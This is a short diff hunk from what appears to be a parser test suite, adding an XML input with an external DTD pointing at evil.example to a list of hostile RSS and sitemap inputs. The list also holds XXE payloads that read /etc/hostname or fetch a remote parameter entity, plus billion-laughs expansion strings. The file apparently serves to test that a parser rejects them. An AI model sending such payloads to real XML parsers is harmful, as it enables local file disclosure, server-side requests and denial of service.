@@ -28,6 +28,7 @@ OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/hostname">]>' + rss("<t
         LAUGHS.encode("utf-32"),
         '<!DOCTYPE rss [<!-- <a> --> <!ENTITY % p SYSTEM "http://evil.example/x">%p;]>' + rss(ITEM),
         rss(ITEM) + '<!DOCTYPE x [<!ENTITY a "b">]>',
+        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">' + rss(ITEM),
         LAUGHS.replace("<rss", "<urlset").replace("</rss>", "</urlset>"),
     ],
 )
